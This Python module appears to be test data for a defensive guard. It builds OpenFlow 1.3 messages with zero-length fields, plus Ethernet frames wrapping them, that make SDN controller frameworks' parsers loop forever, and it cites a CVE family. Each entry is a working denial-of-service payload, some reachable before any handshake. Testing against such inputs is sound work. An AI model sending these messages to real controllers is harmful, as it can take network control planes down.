"""Messages that make the frameworks' parsers loop for ever, and what each of them is.

All are OpenFlow 1.3, of the CVE-2024-34483 to 34489 family: somewhere in each a structure says that it is
zero bytes long (or says nothing of the parser's taste), and the loop that should step over it stays where
it is. Found by reading the parsers' loops and trying; `test_guard.py` keeps trying, and says so should a
framework learn.

`MESSAGES` arrive from whoever reaches the controller's port, the first one before any handshake. `FRAMES`
arrive inside an ordinary packet-in: the frameworks' packet library reads whatever a host sends to the
OpenFlow port as OpenFlow. Treadle decodes frames with code of its own, so that no guard is needed there.
"""

from struct import pack


def _message(kind: int, body: bytes) -> bytes:
    return pack("!BBHI", 4, kind, 8 + len(body), 1) + body


def _multipart(kind: int, body: bytes) -> bytes:
    return _message(19, pack("!HH4x", kind, 0) + body)


def _flow(length: int, instructions: bytes) -> bytes:
    """One entry of flow statistics with an empty match."""
    fixed = pack("!HBxIIHHHH4xQQQ", length, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
    return fixed + pack("!HH4x", 1, 4) + instructions


_OUTPUT = pack("!HHIH6x", 0, 16, 1, 0)

MESSAGES: dict[str, bytes] = {
    # A HELLO element of an unknown type and no length: sixteen bytes, before any handshake.
    "hello-element": _message(0, pack("!HHI", 2, 0, 0)),
    # The same in the element that everybody sends, the version bitmap.
    "hello-version-bitmap": _message(0, pack("!HHI", 1, 0, 0)),
    # A bitmap without words, and its padding: the parser takes the padding for an element of no length.
    "hello-padding": _message(0, pack("!HHI", 1, 4, 0)),
    # An entry of flow statistics of no length: the parser reads it again and again.
    "flow-statistics-entry": _multipart(1, _flow(0, b"")),
    # An apply-actions instruction of no length within an entry that is otherwise right.
    "instruction": _multipart(1, _flow(64, pack("!HHI", 4, 0, 0))),
    # A set-field action of no length within an instruction that is otherwise right.
    "set-field-action": _multipart(
        1, _flow(80, pack("!HHI", 4, 24, 0) + pack("!HH", 25, 0) + bytes.fromhex("80000004") + bytes(8))
    ),
    # An experimenter's action of no length.
    "experimenter-action": _multipart(
        1, _flow(80, pack("!HHI", 4, 24, 0) + pack("!HHI", 0xFFFF, 0, 0x1234) + bytes(8))
    ),
    # Nicira's conntrack action, right itself, with an action of no length inside.
    "action-within-conntrack": _multipart(
        1,
        _flow(
            104,
            pack("!HHI", 4, 48, 0)
            + pack("!HHIHHIHB3xH", 0xFFFF, 40, 0x2320, 35, 0, 0, 0, 0xFF, 0)
            + pack("!HHI", 0xFFFF, 0, 0x1234)
            + bytes(8),
        ),
    ),
    # Nicira's controller2 action with a property whose length is smaller than its own header.
    "property-of-controller2": _multipart(
        1, _flow(88, pack("!HHI", 4, 32, 0) + pack("!HHIH6xHH4x", 0xFFFF, 24, 0x2320, 37, 3, 0))
    ),
    # A group description of no length.
    "group-description": _multipart(7, pack("!HBxI", 0, 0, 1)),
    # A bucket of no length within a group description that is otherwise right.
    "bucket": _multipart(7, pack("!HBxI", 24, 0, 1) + pack("!HHII4x", 0, 1, 1, 1)),
    # An action of no length within a bucket that is otherwise right.
    "action-within-bucket": _multipart(
        7,
        pack("!HBxI", 40, 0, 1)
        + pack("!HHII4x", 32, 1, 1, 1)
        + pack("!HH", 25, 0)
        + bytes.fromhex("80000004")
        + bytes(8),
    ),
    # Group counters of no length.
    "group-counters": _multipart(6, pack("!H2xIIxxxxQQII", 0, 1, 0, 0, 0, 0, 0)),
    # A meter's counters of no length.
    "meter-counters": _multipart(9, pack("!IH6xIQQII", 1, 0, 0, 0, 0, 0, 0)),
    # A meter's configuration of no length.
    "meter-configuration": _multipart(10, pack("!HHI", 0, 1, 1)),
    # A table's features of no length.
    "table-features": _multipart(12, pack("!HB5x32sQQII", 0, 0, b"t", 0, 0, 0, 0)),
    # An action's name of no length in a property of a table's features.
    "action-name-of-a-table": _multipart(
        12, pack("!HB5x32sQQII", 72, 0, b"t", 0, 0, 0, 0) + pack("!HHHH", 4, 8, 0, 0)
    ),
    # An instruction's name of no length, likewise.
    "instruction-name-of-a-table": _multipart(
        12, pack("!HB5x32sQQII", 72, 0, b"t", 0, 0, 0, 0) + pack("!HHHH", 0, 8, 1, 0)
    ),
    # A queue of no length.
    "queue": _message(23, pack("!I4x", 1) + pack("!IIH6x", 1, 1, 0)),
    # A queue's property of no length.
    "queue-property": _message(23, pack("!I4x", 1) + pack("!IIH6x", 1, 1, 32) + pack("!HH4xH6x", 1, 0, 10)),
    # A queue's property of an unknown type: skipped by nothing at all.
    "unknown-queue-property": _message(
        23, pack("!I4x", 1) + pack("!IIH6x", 1, 1, 32) + pack("!HH4xH6x", 9, 16, 10)
    ),
}


def _tcp_frame(payload: bytes) -> bytes:
    """An Ethernet frame with a TCP segment to port 6653."""
    tcp = pack("!HHIIBBHHH", 40000, 6653, 1, 1, 5 << 4, 0x18, 1024, 0, 0) + payload
    ip = pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, bytes((10, 0, 0, 2)), bytes((10, 0, 0, 3))
    )
    return bytes.fromhex("020000000003") + bytes.fromhex("020000000002") + b"\x08\x00" + ip + tcp


FRAMES: dict[str, bytes] = {
    # A host writes a HELLO of the first kind to a TCP port that looks like OpenFlow's.
    "hello-in-a-frame": _tcp_frame(MESSAGES["hello-element"]),
    # A host writes an OpenFlow header of no length there.
    "header-in-a-frame": _tcp_frame(pack("!BBHI", 4, 0, 0, 1)),
}
